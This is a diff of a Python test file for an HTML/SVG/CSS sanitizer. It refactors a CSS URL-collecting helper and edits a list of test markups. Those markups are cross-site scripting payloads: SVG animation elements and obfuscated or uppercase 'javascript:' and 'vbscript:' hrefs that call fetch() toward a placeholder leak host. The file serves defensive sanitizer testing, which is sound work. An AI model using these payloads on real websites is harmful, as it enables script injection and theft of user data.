@@ -38,9 +38,8 @@ def _loads(css: str) -> list[str]:
 
     def walk(tokens, fetching=False):
         for t in tokens:
-            if t.type == "url" and t.value and not t.value.startswith(("data:", "#")):
-                found.append(t.value)
-            elif fetching and t.type == "string" and not t.value.startswith(("data:", "#")):
+            names_a_url = t.type == "url" and t.value or fetching and t.type == "string"
+            if names_a_url and not t.value.startswith(("data:", "#")):
                 found.append(t.value)
             elif fetching and t.type == "function" and t.lower_name == "var":
                 found.append("var()")
@@ -59,7 +58,7 @@ def _loads(css: str) -> list[str]:
 @pytest.mark.parametrize("markup", [
     f'<svg><a><set attributeName="href" to="javascript:fetch(\'{LEAK}\')"/><text>x</text></a></svg>',
     f'<svg><a><animate attributeName="href" values="javascript:fetch(\'{LEAK}\')"/><text>x</text></a></svg>',
-    f'<svg><a xlink:href="#x"><animateTransform attributeName="href" to="javascript:1"/></a><discard/></svg>',
+    '<svg><a xlink:href="#x"><animateTransform attributeName="href" to="javascript:1"/></a><discard/></svg>',
     f'<a href="java&#9;script:fetch(\'{LEAK}\')">x</a>',
     f'<a href="  JAVASCRIPT:fetch(\'{LEAK}\')">x</a>',
     f'<div title="x" data-x="vbscript:{LEAK}">x</div>',
